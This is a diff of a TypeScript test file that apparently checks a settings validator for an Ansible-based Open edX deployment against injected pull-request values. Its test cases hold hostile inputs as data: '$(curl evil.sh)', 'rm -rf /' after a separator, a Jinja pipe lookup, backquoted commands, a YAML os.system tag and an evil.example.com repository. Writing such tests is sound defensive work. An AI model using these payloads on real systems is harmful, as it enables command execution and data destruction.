@@ -66,29 +66,39 @@ const BAD_CASES: BadCase[] = [
     expect: /^Settings\.EDXAPP_LMS_BASE: .*domains are derived/,
   },
   {
-    title: "command substitution in a value",
-    body: settingsBody('EDXAPP_PLATFORM_NAME: "$(curl evil.sh)"'),
-    expect: /^Settings\.EDXAPP_PLATFORM_NAME: value contains \$\( command substitution$/,
-  },
-  {
-    title: "a command separator in a list value",
-    body: settingsBody("EDXAPP_EXTRA: [ok, 'a; rm -rf /']"),
-    expect: /^Settings\.EDXAPP_EXTRA\[1\]: value contains a ';' command separator$/,
-  },
-  {
     title: "a Jinja lookup in a value",
     body: settingsBody("EDXAPP_PLATFORM_NAME: \"{{ lookup('pipe', 'id') }}\""),
-    expect: /^Settings\.EDXAPP_PLATFORM_NAME: value contains a Jinja template expression$/,
+    expect: /^Settings\.EDXAPP_PLATFORM_NAME: value contains a Jinja template delimiter "\{\{"/,
   },
   {
     title: "a shell metacharacter in configuration_version",
     body: settingsBody("configuration_version: 'master`id`'"),
-    expect: /^Settings\.configuration_version: value contains a backquote$/,
+    expect: /^Settings\.configuration_version: must be a branch or tag of the configuration repository$/,
   },
   {
-    title: "a branch name with shell syntax",
-    branch: "fix;curl-evil",
-    expect: /^branch name contains a ';' command separator$/,
+    title: "a connection variable",
+    body: settingsBody("ansible_connection: local"),
+    expect: /^Settings\.ansible_connection: may not be set from a pull request: Ansible's connection/,
+  },
+  {
+    title: "a configuration repository outside the allowlist",
+    body: settingsBody("edx_ansible_source_repo: https://evil.example.com/configuration.git"),
+    expect: /^Settings\.edx_ansible_source_repo: https:\/\/evil\.example\.com\/configuration\.git is not an allowed configuration repository/,
+  },
+  {
+    title: "a playbook outside the allowlist",
+    body: settingsBody("configuration_playbook_name: run_anything.yml"),
+    expect: /^Settings\.configuration_playbook_name: run_anything\.yml is not an allowed playbook/,
+  },
+  {
+    title: "a commit SHA as configuration_version",
+    body: settingsBody("configuration_version: 0123456789abcdef0123456789abcdef01234567"),
+    expect: /^Settings\.configuration_version: "0123456789abcdef0123456789abcdef01234567" looks like a commit SHA/,
+  },
+  {
+    title: "a YAML tag",
+    body: settingsBody("EDXAPP_X: !!python/object/apply:os.system ['id']"),
+    expect: /^Settings: YAML refused: Unresolved tag/,
   },
   {
     title: "a release the version matrix does not support",
